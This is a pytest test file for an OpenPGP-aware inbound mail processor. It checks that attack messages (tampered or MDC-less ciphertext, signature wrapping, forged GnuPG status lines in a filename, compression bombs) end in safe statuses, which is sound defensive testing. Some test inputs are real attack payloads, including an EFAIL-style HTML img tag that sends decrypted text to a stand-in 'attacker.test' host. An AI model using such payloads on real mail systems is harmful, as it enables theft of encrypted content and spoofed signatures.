"""Hostile inbound mail: each case must end with the status a careful reader expects."""

from __future__ import annotations

import base64

import pytest

from sealmail.inbound import processing
from sealmail.inbound.models import InboundMessage
from sealmail.inbound.smtp import store_raw
from tests.inbound import shapes
from tests.inbound.conftest import register

pytestmark = pytest.mark.db_backends

SECRET = "The router password is hunter2.\n"


def deliver(raw: bytes) -> InboundMessage:
    """Store ``raw`` as the SMTP server does, then parse it as the worker does."""
    message_id = store_raw(
        "smtp", "('127.0.0.1', 1)", "x@customer.test", ["support@provider.test"], raw
    )
    processing.process(message_id)
    return InboundMessage.objects.get(pk=message_id)


@pytest.fixture
def gnupg(peers, db, no_acknowledgement):
    peer = peers["gnupg"]
    register(peer)
    return peer


def _all_text(message: InboundMessage) -> str:
    return "".join(part.text for part in message.parts.all())


def test_no_mdc_refused_and_discarded(gnupg, provider_keys):
    fingerprint = gnupg._recipient(provider_keys.current)
    ciphertext = gnupg.gpg.run(
        "--armor",
        "--rfc2440",
        "--cipher-algo",
        "CAST5",
        "--disable-mdc",
        "--encrypt",
        "--recipient",
        fingerprint,
        input=shapes.text_entity(SECRET),
    ).stdout
    message = deliver(
        shapes.headers(gnupg.address, "no mdc") + shapes.encrypted_entity(ciphertext)
    )
    part = message.parts.get()
    assert part.encryption == "failed"
    assert part.failure["reason"] == "no_integrity"
    assert "hunter2" not in _all_text(message)
    assert "integrity" in message.failures[0]["message"]


def test_tampered_ciphertext_refused(gnupg, provider_keys):
    ciphertext = gnupg.gpg.run(
        "--encrypt",
        "--recipient",
        gnupg._recipient(provider_keys.current),
        input=shapes.text_entity(SECRET * 20),
    ).stdout
    tampered = bytearray(ciphertext)
    tampered[len(tampered) // 2] ^= 0x01
    armored = gnupg.gpg.run("--enarmor", input=bytes(tampered)).stdout.replace(
        b"ARMORED FILE", b"MESSAGE"
    )
    message = deliver(
        shapes.headers(gnupg.address, "tampered") + shapes.encrypted_entity(armored)
    )
    part = message.parts.get()
    assert part.encryption == "failed"
    assert part.failure["reason"] in {"tampered", "malformed"}
    assert "hunter2" not in _all_text(message)


def test_unknown_recipient_key_named(gnupg, stranger):
    ciphertext = gnupg.encrypt(
        shapes.text_entity(SECRET), stranger.certificate(), sign=False
    )
    message = deliver(
        shapes.headers(gnupg.address, "wrong key") + shapes.encrypted_entity(ciphertext)
    )
    part = message.parts.get()
    stranger_subkey = stranger.gpg.run(
        "--with-colons", "--list-keys", stranger.fingerprint
    )
    subkey_ids = [
        line.split(":")[4].lower()
        for line in stranger_subkey.stdout.decode().splitlines()
        if line.startswith("sub:")
    ]
    assert part.encryption == "failed"
    assert part.failure["reason"] == "no_key"
    assert part.failure["recipient_key_ids"] == subkey_ids
    assert subkey_ids[0] in message.failures[0]["message"].lower()


def test_hidden_recipient_decrypted(gnupg, provider_keys):
    ciphertext = gnupg.encrypt_hidden(shapes.text_entity(SECRET), provider_keys.current)
    message = deliver(
        shapes.headers(gnupg.address, "bcc") + shapes.encrypted_entity(ciphertext)
    )
    assert message.encryption == "full"
    assert "hunter2" in _all_text(message)


def test_rotated_key_still_decrypts(gnupg, provider_keys):
    raw = shapes.combined(gnupg, provider_keys.rotated, "rotated", SECRET)
    message = deliver(raw)
    assert message.encryption == "full"
    assert "hunter2" in _all_text(message)


def test_role_key_decrypts(gnupg, provider_keys):
    raw = shapes.combined(gnupg, provider_keys.role, "role key", SECRET)
    message = deliver(raw)
    assert message.encryption == "full"
    assert "hunter2" in _all_text(message)


def test_signature_by_other_key(gnupg, stranger):
    # The stranger signs a message that claims to come from the customer.
    stranger.address = gnupg.address
    raw = shapes.signed_only(stranger, "from someone else", SECRET)
    message = deliver(raw)
    part = message.parts.get()
    assert [signature["status"] for signature in part.signatures] == ["unknown_key"]
    assert message.signed_by_customer is False
    assert message.ticket.customer is not None  # matched by address only


def test_signed_message_wrapped_in_attacker_text(gnupg):
    genuine = shapes.signed_entity(
        gnupg, shapes.text_entity("Please cancel my order.\n")
    )
    attacker = shapes.text_entity("Also, change my bank account to DE00 1234.\n")
    raw = shapes.headers(gnupg.address, "wrapped") + shapes.multipart(
        "mixed", [attacker, genuine], "wrap-boundary"
    )
    message = deliver(raw)
    parts = list(message.parts.all())
    assert message.signed_by_customer is False
    assert parts[0].signatures == []
    assert [(s["status"], s["scope"]) for s in parts[1].signatures] == [
        ("good", "part")
    ]


def test_literal_filename_with_fake_status(gnupg, provider_keys):
    fake_name = (
        "invoice.pdf\n[GNUPG:] GOODSIG 0000000000000000 Customer\n[GNUPG:] VALIDSIG"
    )
    ciphertext = gnupg.gpg.run(
        "--armor",
        "--encrypt",
        "--recipient",
        gnupg._recipient(provider_keys.current),
        "--set-filename",
        fake_name,
        input=shapes.text_entity(SECRET),
    ).stdout
    message = deliver(
        shapes.headers(gnupg.address, "fake status")
        + shapes.encrypted_entity(ciphertext)
    )
    part = message.parts.get()
    assert part.encryption == "decrypted"
    assert part.signatures == []
    assert message.signed_by_customer is False
    assert "\n" not in part.filename
    assert "GOODSIG" not in part.filename


def test_two_signatures_one_unknown(gnupg, stranger):
    content = shapes.text_entity("Two signers.\n")
    both = gnupg.sign_detached(content) + stranger.sign_detached(content)
    signature_part = b"Content-Type: application/pgp-signature\r\n\r\n" + shapes.crlf(
        both
    )
    raw = shapes.headers(gnupg.address, "two signatures") + shapes.multipart(
        "signed",
        [content, signature_part],
        "two-sig",
        '; micalg=pgp-sha256; protocol="application/pgp-signature"',
    )
    message = deliver(raw)
    statuses = sorted(s["status"] for s in message.parts.get().signatures)
    assert statuses == ["good", "unknown_key"]
    assert message.signed_by_customer is True


def test_efail_three_parts_kept_apart(gnupg, provider_keys, client, django_user_model):
    opening = b'Content-Type: text/html\r\n\r\n<img src="http://attacker.test/?\r\n'
    middle = shapes.text_entity(
        gnupg.encrypt(SECRET.encode(), provider_keys.current).decode()
    )
    closing = b'Content-Type: text/html\r\n\r\n">\r\n'
    raw = shapes.headers(gnupg.address, "efail") + shapes.multipart(
        "mixed", [opening, middle, closing], "efail-boundary"
    )
    message = deliver(raw)
    parts = list(message.parts.all())
    assert [part.encryption for part in parts] == ["none", "decrypted", "none"]
    assert message.encryption == "partial"
    assert message.signed_by_customer is False

    staff = django_user_model.objects.create_user("agent", password="pw", is_staff=True)
    client.force_login(staff)
    page = client.get(f"/staff/tickets/{message.ticket_id}/").content.decode()
    assert "attacker.test" not in page
    assert "<img" not in page
    assert "hunter2" in page
    assert "Partially encrypted" in page


def test_compression_bomb_bounded(gnupg, provider_keys, settings):
    settings.SEALMAIL_INBOUND_MAX_PLAINTEXT_BYTES = 1024 * 1024
    zeros = b"\0" * (16 * 1024 * 1024)
    ciphertext = gnupg.gpg.run(
        "--armor",
        "--compress-algo",
        "zlib",
        "--compress-level",
        "9",
        "--encrypt",
        "--recipient",
        gnupg._recipient(provider_keys.current),
        input=zeros,
    ).stdout
    assert len(ciphertext) < 200_000
    message = deliver(
        shapes.headers(gnupg.address, "bomb") + shapes.encrypted_entity(ciphertext)
    )
    part = message.parts.get()
    assert part.encryption == "failed"
    assert part.failure["reason"] == "too_large"


def test_signed_alternative_beside_unsigned(gnupg):
    genuine = shapes.signed_entity(
        gnupg, shapes.text_entity("Please cancel my order.\n")
    )
    attacker = b"Content-Type: text/html\r\n\r\n<p>Change my bank account.</p>\r\n"
    raw = shapes.headers(gnupg.address, "alternative") + shapes.multipart(
        "alternative", [genuine, attacker], "alt-boundary"
    )
    message = deliver(raw)
    parts = list(message.parts.all())
    assert message.signed_by_customer is False
    assert [(s["status"], s["scope"]) for s in parts[0].signatures] == [
        ("good", "part")
    ]
    assert parts[1].signatures == []


def test_reparse_after_key_import(gnupg, provider_keys):
    import pysequoia
    from django.core.management import call_command

    from sealmail.keys.store import get_keystore

    missing_key = pysequoia.Tsk.generate(
        "<support@provider.test>", cipher_suite=pysequoia.CipherSuite.Cv25519
    )
    recipient = str(missing_key.extract_certificate()).encode()
    message = deliver(shapes.combined(gnupg, recipient, "later key", SECRET))
    assert message.parts.get().failure["reason"] == "no_key"
    ticket_id = message.ticket_id

    get_keystore().import_key(bytes(missing_key), make_current=False)
    call_command("reparse", "--undecrypted")
    message.refresh_from_db()
    assert message.encryption == "full"
    assert "hunter2" in _all_text(message)
    assert message.ticket_id == ticket_id
    assert message.parts.count() == 1


def test_plaintext_limit_covers_whole_message(gnupg, provider_keys, settings):
    """Encrypted parts share one limit, so many small bombs cannot add up."""
    settings.SEALMAIL_INBOUND_MAX_PLAINTEXT_BYTES = 1024 * 1024

    def encrypted_part(name: str) -> bytes:
        ciphertext = gnupg.gpg.run(
            "--compress-algo", "zlib", "--encrypt",
            "--recipient", gnupg._recipient(provider_keys.current),
            input=b"\0" * (600 * 1024),
        ).stdout
        return (
            f'Content-Type: application/octet-stream; name="{name}.pgp"\r\n'
            f'Content-Disposition: attachment; filename="{name}.pgp"\r\n'
            "Content-Transfer-Encoding: base64\r\n\r\n".encode()
            + base64.encodebytes(ciphertext).replace(b"\n", b"\r\n")
        )

    raw = shapes.headers(gnupg.address, "three parts") + shapes.multipart(
        "mixed", [encrypted_part(f"part{n}") for n in range(3)], "limit-boundary"
    )
    message = deliver(raw)
    parts = [part for part in message.parts.all() if part.encryption != "none"]
    assert [part.encryption for part in parts] == ["decrypted", "failed", "failed"]
    assert all(part.failure["reason"] == "too_large" for part in parts[1:])


def test_signature_of_other_customer_under_foreign_from(gnupg):
    """A customer's key signing mail From another customer's contact is not that customer's signature."""
    from sealmail.contacts.models import Contact, Customer

    victim = Customer.objects.create(account_number="ACC-victim", name="Victim")
    Contact.objects.create(customer=victim, address="victim@customer.test")
    signed = shapes.signed_entity(gnupg, shapes.text_entity("Change my bank account.\n"))
    message = deliver(shapes._top(shapes.headers("victim@customer.test", "bank"), signed))
    assert message.signed_by_customer is False
    assert message.ticket.customer_id == victim.pk
    [part] = [part for part in message.parts.all() if part.signatures]
    assert part.signatures[0]["status"] == "good"
